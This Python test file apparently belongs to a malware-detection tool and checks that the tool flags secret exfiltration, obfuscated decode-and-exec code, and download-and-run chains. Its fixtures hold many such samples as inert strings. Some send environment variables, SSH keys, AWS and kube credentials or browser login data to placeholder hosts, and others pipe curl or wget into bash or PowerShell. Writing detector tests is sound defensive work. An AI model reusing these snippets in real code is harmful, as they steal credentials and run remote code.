"""The same deed in many shapes: each must be told, however it is written. All of it is inert text."""

from __future__ import annotations

import base64
import zlib

import pytest

from pratique.model.observation import Refusal
from pratique.model.release import SourceFile
from pratique.releases.extract import facts_of_file
from tests.unit.releases.python.test_capabilities import facts_of

CODE = "import os\nos.system('echo inert')\n"
B64 = base64.b64encode(CODE.encode()).decode()
ZIPPED = zlib.compress(CODE.encode() * 3)

SECRETS = {
    "alias": "from requests import post as p\nfrom os import environ as e\np('https://a.example', json={**e})",
    "text of all": "import os, requests\nrequests.post('https://a.example', data=str(os.environ))",
    "formatted": "import os, requests as r\nr.post('https://a.example', json={'c': f'{os.environ}'})",
    "percent": "import os, requests as r\nr.post('https://a.example', data='%s' % dict(os.environ))",
    "a loop over a glob": "import glob, os, requests\nd = {}\nfor f in glob.glob(os.path.expanduser('~/.ssh/*')):\n"
    "    d[f] = open(f).read()\nrequests.post('https://a.example', json=d)",
    "appended": "import os, requests\nd = []\nd.append(open(os.path.expanduser('~/.aws/credentials')).read())\n"
    "requests.post('https://a.example', json=d)",
    "a table of places": "import os, requests\nP = {'a': '~/.aws/credentials', 'k': '~/.kube/config'}\ndef go():\n"
    "    for n, p in P.items():\n        try:\n            t = open(os.path.expanduser(p)).read()\n"
    "            requests.post('https://a.example/u', data={n: t})\n        except OSError: pass\ngo()",
    "two functions": "import os, requests\ndef collect():\n    out = {}\n    out['env'] = dict(os.environ)\n    return out\n"
    "def send(d):\n    requests.post('https://a.example', json=d)\ndef main():\n    send(collect())\nmain()",
    "a thread": "import os, threading, requests\ndef send(d):\n    requests.post('https://a.example', json=d)\n"
    "threading.Thread(target=send, args=(dict(os.environ),), daemon=True).start()",
    "a class": "import os, requests\nclass A:\n    def __init__(self):\n        self.d = dict(os.environ)\n"
    "    def go(self):\n        requests.post('https://a.example', json=self.d)\nA().go()",
    "a raw connection": "import os, http.client, json\nc = http.client.HTTPSConnection('a.example')\n"
    "c.request('POST', '/', json.dumps(dict(os.environ)))",
    "a socket": "import os, socket\ns = socket.create_connection(('192.0.2.1', 443))\ns.sendall(str(dict(os.environ)).encode())",
    "mail": "import os, smtplib\ns = smtplib.SMTP('a.example')\ns.sendmail('a@a.example', 'b@a.example', str(dict(os.environ)))",
    "an archive": "import os, requests, zipfile\ndef go():\n    z = zipfile.ZipFile('x.zip', 'w')\n"
    "    z.write(os.path.expanduser('~/.ssh/id_rsa'))\n    z.close()\n"
    "    requests.post('https://a.example', files={'f': open('x.zip', 'rb')})",
    "a browser": "import os, shutil, sqlite3, requests\ndef go():\n"
    "    p = os.getenv('LOCALAPPDATA') + r'\\Google\\Chrome\\User Data\\Default\\Login Data'\n"
    "    shutil.copy2(p, 'x.db')\n    rows = sqlite3.connect('x.db').execute('select 1').fetchall()\n"
    "    requests.post('https://a.example', json=rows)",
    "encrypted": "import os, json, urllib.request as u\nfrom cryptography.fernet import Fernet\n"
    "d = Fernet(k).encrypt(json.dumps(dict(os.environ)).encode())\nu.urlopen(u.Request('https://a.example', data=d))",
    "asynchronous": "import aiohttp, os\nasync def go():\n    async with aiohttp.ClientSession() as s:\n"
    "        await s.post('https://a.example', json=dict(os.environ))",
    "a token of another program": "import subprocess, requests\nt = subprocess.check_output(['gh', 'auth', 'token'])\n"
    "requests.post('https://a.example', data=t)",
    "by import and name": "r = __import__('requests')\no = __import__('os')\n"
    "getattr(r, 'po' + 'st')('https://a.example', json=dict(getattr(o, 'envi' + 'ron')))",
}  # fmt: skip


@pytest.mark.parametrize("text", SECRETS.values(), ids=SECRETS)
def test_secrets_that_are_sent(text: str) -> None:
    assert "chain.secret-to-network" in {one.kind for one in facts_of(text)}, [
        (one.kind, dict(one.attributes)) for one in facts_of(text)
    ]


DECODED = {
    "by python -c": "import subprocess, sys\n"
    f"subprocess.Popen([sys.executable, '-c', \"import base64; exec(base64.b64decode('{B64}'))\"])",
    "character numbers": "exec(''.join(map(chr, [" + ", ".join(str(ord(one)) for one in CODE) + "])))",
    "a comprehension": "exec(''.join(chr(n ^ 3) for n in [" + ", ".join(str(ord(one) ^ 3) for one in CODE) + "]))",
    "a sum of characters": "exec(" + " + ".join(f"chr({ord(one)})" for one in CODE) + ")",
    "shifted letters": "exec(''.join([chr(ord(c) - 1) for c in '" + "".join(chr(ord(c) + 1) for c in "import os; os.system('x')").replace("'", "\\'") + "']))",
    "bytes": "exec(bytes([" + ", ".join(str(ord(one)) for one in CODE) + "]).decode())",
    "hexadecimal": f"exec(bytes.fromhex('{CODE.encode().hex()}'))",
    "rot13": "import codecs\nexec(codecs.decode('vzcbeg bf; bf.flfgrz(1)', 'rot13'))",
    "a helper": f"import base64\ndef d(s):\n    return base64.b64decode(s[::-1]).decode()\nexec(d('{B64[::-1]}'))",
    "pieces": f"import base64\na = '{B64[:20]}'\nb = '{B64[20:]}'\nexec(base64.b64decode(''.join([a, b])))",
    "many pieces": "import base64\nx = " + " + ".join(f"'{one}'" for one in B64) + "\nexec(base64.b64decode(x))",
    "zlib": f"import zlib\nexec(zlib.decompress({ZIPPED!r}))",
    "names of imports": f"exec(__import__('zlib').decompress({ZIPPED!r}))",
    "by getattr": f"b = __import__('base' + '64')\ngetattr(__builtins__, 'ex' + 'ec')(getattr(b, 'b64decode')('{B64}'))",
    "through builtins": f"import builtins as q, base64 as b\nq.__dict__['exec'](b.b64decode('{B64}'))",
    "fernet": "from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'x'))",
    "a file that is run": "import base64, tempfile, subprocess, sys\nf = tempfile.NamedTemporaryFile(delete=False)\n"
    "f.write(base64.b64decode(x))\nsubprocess.Popen([sys.executable, f.name])",
    "in a class": f"import base64\nclass A:\n    P = 1\n    def r(self):\n        exec(base64.b64decode('{B64}'))\nA().r()",
    "python 2": f"import base64\nc = base64.b64decode('{B64}')\nexec c",
}  # fmt: skip


@pytest.mark.parametrize("text", DECODED.values(), ids=DECODED)
def test_text_that_is_decoded_and_run(text: str) -> None:
    assert "chain.decode-to-run" in {one.kind for one in facts_of(text)}, [
        (one.kind, dict(one.attributes)) for one in facts_of(text)
    ]


@pytest.mark.parametrize("name", [one for one in DECODED if one not in ("fernet", "a file that is run")])
def test_what_was_decoded_is_read(name: str) -> None:
    found = [one for one in facts_of(DECODED[name]) if one.kind == "capability.process" and one.attributes.get("layer")]
    assert found


FETCHED = {
    "read": "from urllib.request import urlopen\nexec(urlopen('https://a.example/x').read())",
    "by import": "exec(__import__('requests').get('https://a.example/x').text)",
    "compiled": "import requests\nexec(compile(requests.get('https://a.example/x').content, 'x', 'exec'))",
    "a pipe": "import os\nos.system('curl -s https://a.example/x | bash')",
    "a pipe for python": "import subprocess\nsubprocess.run('wget -qO- https://a.example/x | python3 -', shell=True)",
    "inside": "import subprocess\nsubprocess.run(['bash', '-c', '$(curl -fsSL https://a.example/x)'])",
    "powershell": "import os\nos.system('powershell -c \"iwr https://a.example/x.ps1 | iex\"')",
    "a path": "import requests, os, stat\nfrom pathlib import Path\np = Path('/var/tmp/x')\n"
    "p.write_bytes(requests.get('https://a.example/x').content)\np.chmod(0o755)\nos.system('/var/tmp/x')",
    "a library": "import urllib.request, ctypes\nurllib.request.urlretrieve('https://a.example/x', 'x.so')\nctypes.CDLL('x.so')",
}  # fmt: skip


@pytest.mark.parametrize("text", FETCHED.values(), ids=FETCHED)
def test_something_that_is_fetched_and_run(text: str) -> None:
    found = [one for one in facts_of(text) if one.kind == "chain.download-to-run"]
    assert found, [(one.kind, dict(one.attributes)) for one in facts_of(text)]
    assert "[.]example" in str(found[0].attributes["destination"])


def test_code_objects_are_told_and_not_loaded() -> None:
    text = f"import marshal, zlib\nexec(marshal.loads(zlib.decompress({ZIPPED!r})))"
    found = list(facts_of_file(SourceFile("a.py", text.encode(), "0" * 64, "python")))
    assert [one.reason for one in found if isinstance(one, Refusal)] == ["bytecode is not examined"]
    kinds = {(one.kind, one.attributes.get("form")) for one in facts_of(text)}
    assert ("obfuscation.form", "bytecode") in kinds
    assert "chain.decode-to-run" in {kind for kind, _ in kinds}
